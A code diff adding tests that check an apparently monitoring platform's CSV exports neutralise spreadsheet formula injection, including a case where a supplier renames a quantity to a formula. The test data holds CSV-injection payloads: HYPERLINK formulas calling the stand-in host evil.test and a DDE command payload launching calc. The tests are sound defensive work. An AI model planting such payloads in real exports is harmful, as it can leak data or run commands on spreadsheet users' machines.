@@ -186,3 +186,89 @@ describe('exports', () => {
     expectParameterError(await c.request('GET', '/settings/export?sortBy=hashId'), 'sortBy');
   });
 });
+
+/** The CSV's records, each a list of its cells' values (RFC 4180: quotes taken off, doubled quotes made one). */
+function cellsOf(csv: string, delimiter = ','): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const ch = csv[i];
+    if (quoted) {
+      if (ch === '"' && csv[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === delimiter) { record.push(cell); cell = ''; } else if (ch === '\n') { record.push(cell); records.push(record); record = []; cell = ''; } else if (ch !== '\r') cell += ch;
+  }
+  return records;
+}
+
+/** A measurement on the pin of the quantity, in a report of its own, stored as the ingest would (a supplier's quantity too). */
+async function measure(pinHashId: string, quantityHashId: string, significand: number, orderOfMagnitude: number, at: Date, reportTypeId: number | null = null) {
+  const { rows: [p] } = await api.ctx.db.query<{ env: number; pg: number; pin: number }>('SELECT environment_id AS env, pin_group_id AS pg, id AS pin FROM pin WHERE hash_id = $1', [pinHashId]);
+  const { rows: [r] } = await api.ctx.db.query<{ id: number }>(
+    'INSERT INTO condition_report (hash_id, environment_id, generated_at, pin_group_id, report_type_id) VALUES (md5(random()::text), $1, $2, $3, $4) RETURNING id', [p.env, at, p.pg, reportTypeId]);
+  await api.ctx.db.query(
+    `INSERT INTO measurement (hash_id, report_id, environment_id, quantity_id, pin_id, channel_index, channel_measurement_index, generated_at, order_of_magnitude, significand)
+     SELECT md5(random()::text), $1, $2, q.id, $3, 0, 0, $4, $5, $6 FROM quantity q WHERE q.hash_id = $7`, [r.id, p.env, p.pin, at, orderOfMagnitude, significand, quantityHashId]);
+}
+
+/** A quantity of the client's environment, stored as its route stores it. */
+async function ownQuantity(c: ApiClient, name: string, unit: string): Promise<string> {
+  const { rows: [q] } = await api.ctx.db.query<{ hash_id: string }>(
+    `INSERT INTO quantity (hash_id, environment_id, name, name_text, color, unit, default_order_of_magnitude)
+     SELECT md5(random()::text), id, to_jsonb($2::text), $2, '#000000', $3, 0 FROM environment WHERE hash_id = $1 RETURNING hash_id`, [c.environmentHashId, name, unit]);
+  return q.hash_id;
+}
+
+/** A spreadsheet runs a cell starting with one of these as a formula (OWASP CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;
+
+describe('exports: cells a spreadsheet would run as formulas', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.test/?x","open")';
+  const CMD = "+cmd|' /C calc'!A0";
+
+  it('are written as text (a quote before them), in static, measurement and analytics exports; numbers stay numbers', async () => {
+    const c = await api.login('monitoring', RIGHTS);
+    const pg = await addPinGroup(c, HYPERLINK);
+    const pin = await addPin(c, pg.hashId, CMD);
+    const q = await ownQuantity(c, '@SUM(A1)', '=1+1');
+    const at = new Date(Date.now() - DAY);
+    await measure(pin.hashId, q, -35, -1, at);
+
+    const staticCsv = (await download((await available(c, await addExport(c, { type: 'all', staticOnly: true, gridHashId: null, from: '2020-01-01T00:00:00Z', to: '2030-01-01T00:00:00Z' }))).downloadUrl!)).body;
+    const [, staticRow] = cellsOf(staticCsv);
+    expect([staticRow[1], staticRow[5]]).toEqual([`'${HYPERLINK}`, `'${CMD}`]);
+    // quoted as well: the cell is one, whatever the spreadsheet does with quotes
+    expect(staticCsv).toContain(`,"'=HYPERLINK(""http://evil.test/?x"",""open"")",`);
+
+    const measurementCsv = (await download((await available(c, await addExport(c, { type: 'all', staticOnly: false, gridHashId: null, from: '2020-01-01T00:00:00Z', to: '2030-01-01T00:00:00Z' }))).downloadUrl!)).body;
+    const [, row] = cellsOf(measurementCsv);
+    expect(row).toEqual([at.toISOString(), pg.hashId, `'${HYPERLINK}`, pin.hashId, `'${CMD}`, q, "'@SUM(A1)", "'=1+1", '-3.5']);
+    // the negative value is a bare number, not text
+    expect(measurementCsv.trimEnd().endsWith(",-3.5")).toBe(true);
+
+    const query = { source: 'pinGroup', columns: [{ field: 'pinGroup.fields.id', name: '-name' }] };
+    const analyticsCsv = (await download((await available(c, await addExport(c, { type: 'analyticsQuery', query, dashboardId: 'd', widgetName: 'w' }))).downloadUrl!)).body;
+    expect(cellsOf(analyticsCsv)).toEqual([["'-name"], [`'${HYPERLINK}`]]);
+
+    for (const csv of [staticCsv, measurementCsv, analyticsCsv]) {
+      for (const cell of cellsOf(csv).flat()) if (!PLAIN_NUMBER.test(cell)) expect(cell, cell).not.toMatch(FORMULA_START);
+    }
+  });
+
+  it('a supplier\'s quantity renamed to a formula reaches a customer\'s export as text', async () => {
+    const customer = await api.login('monitoring', RIGHTS);
+    const supplier = await api.login('connectivity');
+    const added = await supplier.request<{ hashId: string }>('POST', '/quantity/', { name: 'Potential', unit: 'V' });
+    expect(added.status, JSON.stringify(added.body)).toBe(200);
+    const pin = await addPin(customer, (await addPinGroup(customer, 'station')).hashId, 'p');
+    // the customer claimed and linked the supplier's device: its reports carry the supplier's quantity onto the pin
+    await measure(pin.hashId, added.body.hashId, 7, 0, new Date(Date.now() - DAY));
+    const renamed = await supplier.request('POST', `/quantity/${added.body.hashId}`, { name: '=HYPERLINK("http://evil.test/?y","x")', unit: '-2+3' });
+    expect(renamed.status, JSON.stringify(renamed.body)).toBe(204);
+    const csv = (await download((await available(customer, await addExport(customer, { type: 'all', staticOnly: false, gridHashId: null, from: '2020-01-01T00:00:00Z', to: '2030-01-01T00:00:00Z' }))).downloadUrl!)).body;
+    expect(cellsOf(csv)[1].slice(5)).toEqual([added.body.hashId, '\'=HYPERLINK("http://evil.test/?y","x")', "'-2+3", '7']);
+  });
+});
